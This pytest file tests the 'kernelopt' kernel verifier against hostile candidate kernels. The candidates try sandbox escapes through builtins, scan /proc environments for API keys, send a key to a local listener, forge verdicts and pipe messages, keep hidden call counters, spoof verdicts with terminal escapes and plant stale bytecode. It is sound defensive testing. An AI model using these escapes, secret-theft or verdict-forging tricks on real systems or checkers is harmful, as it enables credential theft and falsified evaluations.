"""End to end: hostile candidates through the real command line, rejected with no side effect.

Every attack is the unedited dump of ``elementwise_chain``'s one kernel plus a few
hostile lines. The file runs three commands once per test session (shared between
xdist workers through a lock), all at the same time, each one verification session
over many candidates, with fake credentials in the parent's environment:

* **real**: ``kernelopt verify --json`` over every candidate: each test asserts the
  rejection (and at which stage) and that the side effect did not happen;
* **bypassed**: the same session code with the static stage switched off (what a hole
  in the candidate language would allow), so the escape code really runs in the
  sandboxed worker: the attacks that need the sandbox (secrets, network, signals to
  the parent, detached processes) must still have no effect, and the file-writing
  escapes must have one (the control that shows the attack is real and only the
  static stage stops it). Skipped where Linux namespaces are unavailable;
* **accept**: ``kernelopt accept`` with the candidate file swapped for another while
  it is being verified: what is stored is what was verified.

Tests on the guard bands themselves (layouts, the size cap) are in ``test_guards.py``.
"""

from __future__ import annotations

import ast
import hashlib
import json
import os
import re
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from conftest import KERNELOPT, REPO

PROBLEM = REPO / "tests" / "problems" / "elementwise_chain.py"
SEEDS = 1
# Calls of the candidate in one verification with one seed if nothing were random: the
# kernel stage's two passes (poisoned, pre-filled) and five stress variants, and the
# model stage's checked run. Unchecked runs (1-3 before each checked one) come on top.
PREDICTABLE_CALLS = 2 * SEEDS + 5 + SEEDS
SECRETS = {"ANTHROPIC_API_KEY": f"sk-ant-api03-kernelopt-fake-{uuid.uuid4().hex}",
           "GITHUB_TOKEN": f"ghp_kerneloptfake{uuid.uuid4().hex}"}
TIMEOUT = 240  # each command as a whole

pytestmark = pytest.mark.slow


# --- the attacks --------------------------------------------------------------------------

@dataclass(frozen=True)
class Attack:
    """``code`` goes at ``where`` of the dump: module level, device code, host code (``run``),
    or as a decorator of the kernel. ``static``: what the static stage must say (None: the
    candidate is in the language). MARK is replaced by a file path per run, PORT by the
    listener's port, TAG by a string marking this session's processes."""

    where: str
    code: str
    static: str | None
    bypass: bool = True  # also in the bypassed run


ESCAPES = {
    "alias_chain": Attack("device", """
c = tl.core
b = c.builtins
b.open("MARK", "a").write("alias")
raise b.RuntimeError("ESCAPED")
""", "'tl.core' is not allowed"),
    "list_root": Attack("device", """
b = [tl.core][0].builtins
b.open("MARK", "a").write("list root")
raise b.RuntimeError("ESCAPED")
""", "'tl.core' is not allowed"),
    "call_root": Attack("device", """
o = tl.core._unwrap_if_constexpr(tl.core).knobs.os
o.makedirs("MARK", exist_ok=True)
raise tl.core.builtins.RuntimeError("ESCAPED")
""", "attribute access on the result of 'tl.core._unwrap_if_constexpr(...)'"),
    "dunder_class_walk": Attack("host", """
for k in ().__class__.__base__.__subclasses__():
    if k.__name__ == "_wrap_close":
        k.__init__.__globals__["makedirs"]("MARK", exist_ok=True)
raise RuntimeError("ESCAPED")
""", "().__class__.__base__.__subclasses__()"),
    "getattr_chain": Attack("host", """
getattr(getattr(getattr(tl, "core"), "knobs"), "os").makedirs("MARK", exist_ok=True)
raise RuntimeError("ESCAPED")
""", "unknown name 'getattr'"),
    "decorator": Attack("decorate", """
@triton.heuristics(values={"XBLOCK": lambda args: tl.core.knobs.os.makedirs("MARK", exist_ok=True) or 1 // 0})
""", "decorator 'triton.heuristics"),
}

SANDBOXED = {
    # Reads every environment it can see, the parent's first, and reports what looks like a key.
    "secrets": Attack("host", """
o = tl.core.knobs.os
b = tl.core.builtins
seen, leaked = [], []
for pid in ["self", str(o.getppid()), "1"] + sorted(o.listdir("/proc")):
    try:
        text = b.open("/proc/" + pid + "/environ", "rb").read().decode("utf-8", "replace")
        seen.append(pid)
        leaked += [v for v in text.split("\\0") if "sk-ant-" in v or "ghp_" in v]
    except OSError:
        pass
leaked += [k + "=" + v for k, v in o.environ.items() if "sk-ant-" in v or "ghp_" in v]
b.open("MARK", "a").write(b.repr({"ppid": o.getppid(), "read": seen, "leaked": leaked}))
raise b.RuntimeError("SECRETS-SCANNED ppid=%d read=%d leaked=%r" % (o.getppid(), len(seen), leaked))
""", "'tl.core.knobs.os' is not allowed"),
    "network": Attack("host", """
b = tl.core.builtins
s = b.__import__("socket").socket()
s.settimeout(3)
try:
    s.connect(("127.0.0.1", PORT))
    s.sendall(b"stolen: " + tl.core.knobs.os.environ.get("ANTHROPIC_API_KEY", "none").encode())
    outcome = "connected"
except OSError as exc:
    outcome = b.str(exc)
raise b.RuntimeError("NETWORK " + outcome)
""", "'tl.core.builtins' is not allowed"),
    # SIGSTOP then SIGKILL to the parent (inside the sandbox: init, which ignores both).
    "signals": Attack("host", """
o = tl.core.knobs.os
p = o.getppid()
for sig in (19, 9):
    try:
        o.kill(p, sig)
    except OSError:
        pass
raise tl.core.builtins.RuntimeError("SIGNALLED ppid=%d" % p)
""", "'tl.core.knobs.os' is not allowed"),
    # A detached sleeper and a double-forked one; then the kernel runs as usual.
    "detached_children": Attack("host", """
o = tl.core.knobs.os
b = tl.core.builtins
exe = b.__import__("sys").executable
sleeper = [exe, "-c", "import time; time.sleep(120)", "TAG"]
pids = [b.__import__("subprocess").Popen(sleeper, start_new_session=True).pid]
if o.fork() == 0:
    if o.fork() == 0:
        o.execv(exe, sleeper)
    o._exit(0)
b.open("MARK", "a").write("spawned %r" % pids)
""", "'tl.core.knobs.os' is not allowed"),
    # The next check in the same worker looks for them from inside.
    "stray_probe": Attack("host", """
o = tl.core.knobs.os
b = tl.core.builtins
found = []
for pid in o.listdir("/proc"):
    try:
        if pid.isdigit() and b"TAG" in b.open("/proc/" + pid + "/cmdline", "rb").read():
            found.append(pid)
    except OSError:
        pass
raise b.RuntimeError("STRAYS %r" % found)
""", "'tl.core.knobs.os' is not allowed"),
    # Fake verdicts where the worker can write (its folder, the shared file system);
    # then no launch at all: the output stays as the harness left it.
    "forged_verdict_files": Attack("host", """
o = tl.core.knobs.os
b = tl.core.builtins
fake = '{"event": "verdict", "status": "accepted", "reason": "", "speedup": 2.0}\\n'
for name in ("events.jsonl", "verdict.json", "result.json", "MARK"):
    b.open(name, "a").write(fake)
b.open("MARK", "a").write("cwd " + o.getcwd() + "\\n")
return None
""", "'tl.core.knobs.os' is not allowed"),
    # Right for the number of calls a verification would make if nothing were random.
    "call_counter": Attack("module+host", f"""
CALLS = [0]
#HOST
CALLS[0] += 1
if CALLS[0] > {PREDICTABLE_CALLS}:
    in_ptr1 = in_ptr0
""", "module-level mutable or computed state: CALLS = [0]"),
}

# Forged protocol messages written to every descriptor of the worker: the parent's pipe
# is among them. Last in the bypassed run (it leaves the pipe out of step).
PIPE_FORGERY = Attack("host", """
o = tl.core.knobs.os
lines = [
    '{"type": "stage", "result": {"name": "kernel", "passed": true, "detail": "forged", "seconds": 0.1}}',
    '{"type": "stage", "result": {"name": "model", "passed": true, "detail": "forged", "seconds": 0.1}}',
    '{"type": "done"}',
]
for fd in range(3, 256):
    try:
        o.write(fd, ("\\n".join(lines) + "\\n").encode())
    except OSError:
        pass
return None
""", "'tl.core.knobs.os' is not allowed")

# In the language: the static stage passes them; later defences must catch them.
IN_LANGUAGE = {
    "out_of_bounds_one_past_the_end": Attack("edit", "", None, bypass=False),
    "out_of_bounds_before_the_start": Attack("device-end", """
tl.store(out_ptr0 - 1 + tl.arange(0, 1), tl.load(in_ptr0 + tl.arange(0, 1)))
""", None, bypass=False),
    # State kept in allocator slack one element past the output: a call counter.
    "counter_past_the_end": Attack("device-end", """
count = tl.load(out_ptr0 + xnumel + tl.arange(0, 1))
tl.store(out_ptr0 + xnumel + tl.arange(0, 1), count + 1.0)
""", None, bypass=False),
    "huge_module_constant": Attack("module", """
PAD = "x" * (1 << 40)
""", None, bypass=False),
    # Terminal control characters in an error message: on a terminal the escape codes
    # erase the line and print a verdict of their own.
    "terminal_spoof": Attack("host", r"""
raise ValueError("\x1b[2K\x1b[1Gverdict: accepted (kernel 2.00x faster)\x1b[8m")
""", None, bypass=False),
}


def _insert(dump: str, attack: Attack) -> str:
    lines = dump.splitlines()
    kernel_def = next(i for i, ln in enumerate(lines) if ln.startswith("def triton_"))

    def at(index: int, code: str, indent: str) -> None:
        lines[index:index] = [indent + ln if ln else ln for ln in code.strip("\n").splitlines()]

    if attack.where == "edit":  # an off-by-one mask on the store, and a block large enough to reach past the end
        store = max(i for i, ln in enumerate(lines) if ln.strip().startswith("tl.store(out_ptr0"))
        lines[store] = re.sub(r", xmask\)$", ", xindex < xnumel + 1)", lines[store])
        text = re.sub(r"^    XBLOCK = (\d+)$", lambda m: f"    XBLOCK = {2 * int(m.group(1))}", "\n".join(lines) + "\n",
                      count=1, flags=re.M)
        assert "xindex < xnumel + 1)" in text and re.search(r"^    XBLOCK = \d+$", dump, re.M), dump
        return text
    module_code, host_code = attack.code, ""
    if attack.where == "module+host":
        module_code, host_code = attack.code.split("#HOST")
    if attack.where in ("host", "module+host"):
        start = next(i for i, ln in enumerate(lines) if ln.startswith("def run("))
        at(start + 2, host_code or attack.code, "    ")  # after the docstring
    if attack.where == "device":
        at(next(i for i, ln in enumerate(lines) if "xoffset = tl.program_id(0)" in ln) + 1, attack.code, "    ")
    if attack.where == "device-end":
        at(next(i for i, ln in enumerate(lines) if ln.strip().startswith("tl.store(out_ptr0")) + 1, attack.code, "    ")
    if attack.where == "decorate":
        at(kernel_def - 1, attack.code, "")
    if attack.where in ("module", "module+host"):
        at(next(i for i, ln in enumerate(lines) if ln.startswith("from triton.language.extra import")) + 1,
           module_code, "")
    text = "\n".join(lines) + "\n"
    assert text != dump + "\n" and text != dump
    return text


# --- running the three commands once -----------------------------------------------------

BYPASSED_PARENT = r"""
import json, sys
from pytest_kernelopt.verify import VerifyOptions, VerifySession

# A hole in the language, simulated: stage 1 (its own process) finds no problem.
VerifySession._static = lambda self, sources: []
problem, kernel, timeout, *paths = sys.argv[1:]
with VerifySession(problem, "cpu", VerifyOptions(seeds=%d, timeout=float(timeout))) as session:
    for path in paths:
        verdict = session.verify(kernel, path)
        print(json.dumps(json.loads(verdict.model_dump_json())), flush=True)
""" % SEEDS  # noqa: UP031 (a script as text: %-formatting leaves its braces alone)


class Listener:
    """A TCP listener on 127.0.0.1 that records whatever connects."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[str] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                self.received.append(conn.recv(1000).decode(errors="replace") or "(connected)")
            except OSError:
                self.received.append("(connected)")
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


def _processes_with(tag: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                if tag.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
            except OSError:
                pass
    return found


def _env() -> dict[str, str]:
    env = {**os.environ, **SECRETS}
    env.pop("KERNELOPT_SANDBOX", None)
    return env


def _write(folder: Path, name: str, text: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.py"
    path.write_text(text)
    return path


STALE_PYC_SOURCE = """
import os, sys
with open({mark!r} + (".control" if os.environ.get("KO_CONTROL") else ""), "a") as f:
    f.write("stale bytecode ran\\n")
print("stale bytecode ran", file=sys.stderr)
def run(*args, stream=None):
    raise SystemExit("stale bytecode ran")
"""


def _stale_pyc(folder: Path, dump: str, mark: Path) -> Path:
    """``candidate.py`` (the dump) beside a live ``__pycache__`` entry compiled from other code.

    Unchecked-hash bytecode: ``import candidate`` runs it whatever the source says.
    """
    import importlib.util
    import py_compile

    folder.mkdir(parents=True, exist_ok=True)
    source = folder / "candidate.py"
    hostile = folder / "hostile.py"
    hostile.write_text(STALE_PYC_SOURCE.format(mark=str(mark)))
    py_compile.compile(str(hostile), cfile=importlib.util.cache_from_source(str(source)), dfile=str(source),
                       doraise=True, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    hostile.unlink()
    source.write_text(dump)
    return source


@dataclass
class Campaign:
    folder: Path
    results: dict[str, Any]

    def verdict(self, run: str, name: str) -> dict[str, Any]:
        verdicts = self.results[run]["verdicts"]
        assert name in verdicts, f"no verdict for {name} in the {run} run: {self.results[run]['stderr'][-2000:]}"
        return verdicts[name]

    def mark(self, run: str, name: str) -> Path:
        return self.folder / "marks" / f"{run}-{name}"

    def output(self, run: str) -> str:
        return self.results[run]["stdout"] + self.results[run]["stderr"]


def _run_all(folder: Path, dump: str, kernel: str) -> dict[str, Any]:
    from pytest_kernelopt.verify import sandbox

    marks = folder / "marks"
    marks.mkdir(parents=True)
    tag = f"kernelopt-attack-{uuid.uuid4().hex}"
    listener = Listener()

    def text_of(name: str, attack: Attack, run: str) -> str:
        code = (attack.code.replace("MARK", str(marks / f"{run}-{name}")).replace("PORT", str(listener.port))
                .replace("TAG", tag))
        return _insert(dump, Attack(attack.where, code, attack.static))

    # real: every attack, in an order where each in-language one is followed by something judged
    real: list[Path] = [_write(folder / "real", "dump", dump)]
    for name, attack in {**IN_LANGUAGE, **ESCAPES, **SANDBOXED, "pipe_forgery": PIPE_FORGERY}.items():
        real.append(_write(folder / "real", name, text_of(name, attack, "real")))
        if name == "huge_module_constant":
            real.append(_write(folder / "real", "dump_after_memory", dump))
    real.append(_stale_pyc(folder / "real" / "stale_pyc", dump, marks / "real-stale_pyc"))
    procs: dict[str, subprocess.Popen] = {}
    t0 = time.monotonic()
    procs["real"] = subprocess.Popen(
        [str(KERNELOPT), "verify", str(PROBLEM), "--kernel", kernel, "--device", "cpu", "--seeds", str(SEEDS),
         "--timeout", "60", "--json", "--candidate", *map(str, real)],
        cwd=folder, env=_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

    iso = sandbox.isolation()
    bypassed: list[Path] = []
    if iso.namespaces:
        for name, attack in {**ESCAPES, **SANDBOXED}.items():
            bypassed.append(_write(folder / "bypassed", name, text_of(name, attack, "bypassed")))
        bypassed.append(_write(folder / "bypassed", "dump", dump))
        bypassed.append(_write(folder / "bypassed", "pipe_forgery", text_of("pipe_forgery", PIPE_FORGERY, "bypassed")))
        procs["bypassed"] = subprocess.Popen(
            [sys.executable, "-c", BYPASSED_PARENT, str(PROBLEM), kernel, "60", *map(str, bypassed)],
            cwd=folder, env={**_env(), "PYTHONPATH": str(REPO)}, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
            text=True)

    # accept: the file is replaced once the command has read it, while the worker verifies it
    toctou = _write(folder / "accept", "candidate", dump)
    swapped_in = text_of("out_of_bounds_one_past_the_end", IN_LANGUAGE["out_of_bounds_one_past_the_end"], "accept")
    procs["accept"] = subprocess.Popen(
        [str(KERNELOPT), "accept", str(PROBLEM), "--kernel", kernel, "--device", "cpu", "--seeds", str(SEEDS),
         "--candidate", str(toctou), "--kernels-dir", str(folder / "accept" / "kernels")],
        cwd=folder, env=_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    swap: dict[str, Any] = {"stderr": [], "swapped": False}

    def watch_accept() -> None:
        for line in procs["accept"].stderr:
            swap["stderr"].append(line)
            if line.startswith("verifying ") and not swap["swapped"]:
                toctou.write_text(swapped_in)
                swap["swapped"] = True

    watcher = threading.Thread(target=watch_accept, daemon=True)
    watcher.start()

    results: dict[str, Any] = {"tag": tag, "port": listener.port, "isolation": iso.describe(None),
                               "why_not": iso.why_not, "swapped_in": swapped_in}
    for run, proc in procs.items():
        try:
            out, err = proc.communicate(timeout=max(1.0, TIMEOUT - (time.monotonic() - t0)))
            rc = proc.returncode
        except subprocess.TimeoutExpired:
            proc.kill()
            out, err = proc.communicate()
            rc = "timeout"
        if run == "accept":
            watcher.join(10)
            err = "".join(swap["stderr"]) + (err or "")
        results[run] = {"rc": rc, "stdout": out or "", "stderr": err or "", "seconds": time.monotonic() - t0,
                        "verdicts": {}}
    results["accept"]["swapped"] = swap["swapped"]
    for run, paths in (("real", real), ("bypassed", bypassed)):
        if run not in procs:
            continue
        parsed: list[Any] = []
        if run == "real":
            try:
                parsed = json.loads(results[run]["stdout"])
            except json.JSONDecodeError:
                parsed = []
        else:
            parsed = [json.loads(ln) for ln in results[run]["stdout"].splitlines() if ln.startswith("{")]
        names = [p.parent.name if p.name == "candidate.py" else p.stem for p in paths]
        results[run]["verdicts"] = dict(zip(names, parsed))
    time.sleep(0.2)
    results["strays"] = _processes_with(tag)
    for pid in results["strays"]:  # ours (they carry the tag): never leave them running
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    listener.close()
    results["connections"] = listener.received
    return results


@pytest.fixture(scope="session")
def campaign(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, worker_id: str) -> Campaign:
    """The three commands, run once per test session, whichever xdist worker gets here first."""
    from filelock import FileLock

    root = tmp_path_factory.getbasetemp()
    if worker_id != "master":
        root = root.parent  # shared by the workers of this session
    folder = root / "attacks"
    with FileLock(str(root / "attacks.lock")):
        saved = folder / "results.json"
        if not saved.exists():
            from pytest_kernelopt.candidate import render_dump

            compiled = request.getfixturevalue("compiled_models").get(PROBLEM)
            (kernel, handle), = compiled.kernels.items()
            dump = render_dump(handle.info, compiled.problem.id)
            results = _run_all(folder, dump, kernel)
            results["kernel"], results["dump"] = kernel, dump
            saved.write_text(json.dumps(results))
        results = json.loads(saved.read_text())
    return Campaign(folder, results)


@pytest.fixture(scope="session")
def bypassed(campaign: Campaign) -> Campaign:
    if "bypassed" not in campaign.results:
        pytest.skip(f"no Linux namespaces for workers here: {campaign.results['why_not']}")
    assert campaign.results["bypassed"]["rc"] == 0, campaign.output("bypassed")[-3000:]
    return campaign


def _rejected(campaign: Campaign, name: str, stage: str, *fragments: str) -> dict[str, Any]:
    verdict = campaign.verdict("real", name)
    assert verdict["status"] == "rejected", verdict["reason"]
    assert verdict["reason"].startswith(f"{stage}:"), verdict["reason"]
    failed = [s for s in verdict["stages"] if s["passed"] is False]
    assert [s["name"] for s in failed] == [stage], verdict["stages"]
    for fragment in fragments:
        assert fragment in verdict["reason"], (fragment, verdict["reason"])
    return verdict


def _statically_rejected(campaign: Campaign, name: str, attack: Attack) -> dict[str, Any]:
    """Rejected by the static stage, which names the attack's first line; nothing ran in the worker."""
    verdict = _rejected(campaign, name, "static")
    assert [s["name"] for s in verdict["stages"]] == ["static"]
    candidate = Path(verdict["candidate"])
    dump, text = campaign.results["dump"].splitlines(), candidate.read_text().splitlines()
    line = next(i for i, (a, b) in enumerate(zip(dump, text), 1) if a != b)
    problems = verdict["reason"].removeprefix(f"static: {candidate.name}: ").split(f"; {candidate.name}: ")
    assert any(p.startswith(f"line {line}: ") and attack.static in p for p in problems), (line, problems)
    return verdict


# --- the real command line ----------------------------------------------------------------

def test_the_real_run_judged_every_candidate(campaign):
    real = campaign.results["real"]
    assert real["rc"] == 1, campaign.output("real")[-3000:]  # some candidate was rejected: exit 1
    assert len(real["verdicts"]) == 2 + len(IN_LANGUAGE) + len(ESCAPES) + len(SANDBOXED) + 2, real["stderr"][-3000:]
    for name in ("dump", "dump_after_memory"):
        assert campaign.verdict("real", name)["status"] == "correct", campaign.verdict("real", name)["reason"]


def test_no_secret_in_any_output(campaign):
    """The fake credentials of the parent's environment appear in no verdict, stdout or stderr."""
    runs = [r for r in ("real", "bypassed", "accept") if r in campaign.results]
    for run in runs:
        for secret in SECRETS.values():
            assert secret not in campaign.output(run), run
    assert campaign.results["connections"] == []


@pytest.mark.parametrize("name", sorted(ESCAPES))
def test_escape_to_builtins_is_rejected_and_writes_nothing(campaign, name):
    _statically_rejected(campaign, name, ESCAPES[name])
    assert not campaign.mark("real", name).exists()


@pytest.mark.parametrize("name", sorted(SANDBOXED))
def test_runtime_attack_is_rejected_statically(campaign, name):
    _statically_rejected(campaign, name, SANDBOXED[name])
    assert not campaign.mark("real", name).exists()
    assert campaign.results["strays"] == []


def test_forged_verdict_through_the_pipe_is_rejected(campaign):
    verdict = _statically_rejected(campaign, "pipe_forgery", PIPE_FORGERY)
    assert "forged" not in json.dumps(verdict)


def test_out_of_bounds_store_one_past_the_end(campaign):
    """An off-by-one mask: caught by the guard band around the output, at the kernel stage."""
    _rejected(campaign, "out_of_bounds_one_past_the_end", "kernel",
              "the candidate wrote 1 element(s) outside out_ptr0 (a store out of bounds; the nearest is 1 element(s) "
              "past its end)")


def test_out_of_bounds_store_before_the_start(campaign):
    _rejected(campaign, "out_of_bounds_before_the_start", "kernel",
              "the candidate wrote 1 element(s) outside out_ptr0 (a store out of bounds; the nearest is 1 element(s) "
              "before its start)")


def test_hidden_counter_in_allocator_slack(campaign):
    """A call counter kept one element past the output passed every stage before guard bands."""
    _rejected(campaign, "counter_past_the_end", "kernel", "element(s) outside out_ptr0")


def test_unedited_dump_stays_correct_with_guard_bands(campaign):
    verdict = campaign.verdict("real", "dump")
    assert verdict["status"] == "correct", verdict["reason"]
    kernel = next(s for s in verdict["stages"] if s["name"] == "kernel")
    assert "guard bands around every tensor argument" in kernel["detail"], kernel["detail"]


def test_huge_module_constant_is_rejected_and_the_next_candidate_is_judged(campaign):
    _rejected(campaign, "huge_module_constant", "kernel", "MemoryError")
    nxt = campaign.verdict("real", "dump_after_memory")
    assert nxt["status"] == "correct", nxt["reason"]


def test_terminal_control_characters_cannot_spoof_a_verdict(campaign):
    """Text from candidate code reaches the verdict only with its control characters escaped."""
    verdict = _rejected(campaign, "terminal_spoof", "kernel", "ValueError")
    assert "\x1b" not in json.dumps(verdict, ensure_ascii=False)
    assert "\\x1b[2K" in verdict["reason"]


def test_stale_bytecode_beside_the_candidate_does_not_run(campaign):
    folder = campaign.folder / "real" / "stale_pyc"
    verdict = campaign.verdict("real", "stale_pyc")
    assert verdict["status"] == "correct", verdict["reason"]
    assert verdict["candidate_sha256"] == hashlib.sha256(campaign.results["dump"].encode()).hexdigest()
    assert not campaign.mark("real", "stale_pyc").exists()
    # Control: importing the candidate runs the stale bytecode.
    proc = subprocess.run([sys.executable, "-c", "import candidate"], cwd=folder, capture_output=True, text=True,
                          env={**os.environ, "KO_CONTROL": "1"}, timeout=60)
    assert "stale bytecode ran" in proc.stderr, proc.stderr
    assert Path(str(campaign.mark("real", "stale_pyc")) + ".control").exists()


def test_candidate_swapped_during_accept_stores_the_verified_bytes(campaign):
    accept = campaign.results["accept"]
    assert accept["swapped"], accept["stderr"][-2000:]
    assert accept["rc"] == 0, campaign.output("accept")[-3000:]
    kernel, dump = campaign.results["kernel"], campaign.results["dump"]
    store = campaign.folder / "accept" / "kernels" / "elementwise_chain" / kernel
    manifest = json.loads((store / "manifest.json").read_text())
    assert [v["version"] for v in manifest["versions"]] == [1]
    assert (store / "v1.py").read_text() == dump
    assert manifest["versions"][0]["sha256"] == hashlib.sha256(dump.encode()).hexdigest()
    # The file on disk is now the other candidate, which was never verified or stored.
    assert (campaign.folder / "accept" / "candidate.py").read_text() == campaign.results["swapped_in"]
    assert all(campaign.results["swapped_in"] != p.read_text() for p in store.glob("*.py"))


# --- with the static stage bypassed: what the sandbox holds on its own ------------------------

@pytest.mark.parametrize("name", sorted(ESCAPES))
def test_bypassed_escape_really_runs(bypassed, name):
    """Control: without the static stage each escape reaches the file system (the worker may
    write the machine's files), so the static stage is what stops it."""
    assert bypassed.mark("bypassed", name).exists(), bypassed.verdict("bypassed", name)["reason"]


def test_bypassed_secrets_stay_out_of_reach(bypassed):
    verdict = bypassed.verdict("bypassed", "secrets")
    assert "SECRETS-SCANNED ppid=1 " in verdict["reason"], verdict["reason"]  # it ran, under init
    assert "leaked=[]" in verdict["reason"], verdict["reason"]
    report = ast.literal_eval(bypassed.mark("bypassed", "secrets").read_text())  # what the candidate wrote
    assert report["ppid"] == 1 and report["leaked"] == [], report
    assert "1" not in report["read"], report  # init (not dumpable) does not even show its environment
    for secret in SECRETS.values():
        assert secret not in report and secret not in json.dumps(verdict)


def test_bypassed_network_is_unreachable(bypassed):
    verdict = bypassed.verdict("bypassed", "network")
    assert "NETWORK " in verdict["reason"] and "unreachable" in verdict["reason"], verdict["reason"]
    assert bypassed.results["connections"] == []


def test_bypassed_signals_do_not_reach_the_parent(bypassed):
    """SIGSTOP and SIGKILL to getppid() hit init, which ignores them; the parent finished every check."""
    verdict = bypassed.verdict("bypassed", "signals")
    assert "SIGNALLED ppid=1" in verdict["reason"], verdict["reason"]
    assert bypassed.results["bypassed"]["rc"] == 0
    names = list(bypassed.results["bypassed"]["verdicts"])
    assert names[-2:] == ["dump", "pipe_forgery"]  # the run went on to its end


def test_bypassed_detached_children_do_not_survive_the_check(bypassed):
    spawned = bypassed.mark("bypassed", "detached_children").read_text()
    assert spawned.startswith("spawned ["), spawned  # control: they were started
    probe = bypassed.verdict("bypassed", "stray_probe")
    assert "STRAYS []" in probe["reason"], probe["reason"]  # gone before the next check began
    assert bypassed.results["strays"] == []  # and nothing of theirs on the host afterwards


def test_bypassed_forged_files_do_not_change_the_verdict(bypassed):
    verdict = bypassed.verdict("bypassed", "forged_verdict_files")
    assert verdict["status"] == "rejected" and verdict["reason"].startswith("kernel:"), verdict["reason"]
    written = bypassed.mark("bypassed", "forged_verdict_files").read_text()
    cwd = re.search(r"^cwd (.+)$", written, re.M).group(1)
    assert cwd.startswith(("/tmp/", os.environ.get("TMPDIR", "/tmp"))) and "kernelopt-worker-" in cwd
    assert not Path(cwd).exists()  # the worker's folder, with the forged files, is gone


def test_bypassed_call_counter_is_caught(bypassed):
    """Right for as many calls as a verification makes without its unchecked runs: those
    make the checked calls come later, so the counter runs out while it is watched."""
    verdict = bypassed.verdict("bypassed", "call_counter")
    assert verdict["status"] == "rejected", verdict["reason"]
    assert verdict["reason"].startswith(("kernel:", "model:")), verdict["reason"]


def test_bypassed_session_survives_every_attack(bypassed):
    verdict = bypassed.verdict("bypassed", "dump")
    assert verdict["status"] == "correct", verdict["reason"]


@pytest.mark.xfail(strict=True, reason="known limit: code running in the worker can write the result pipe; only "
                                       "the static stage keeps a candidate from running code there")
def test_bypassed_pipe_forgery(bypassed):
    verdict = bypassed.verdict("bypassed", "pipe_forgery")
    assert verdict["status"] == "rejected", verdict["stages"]
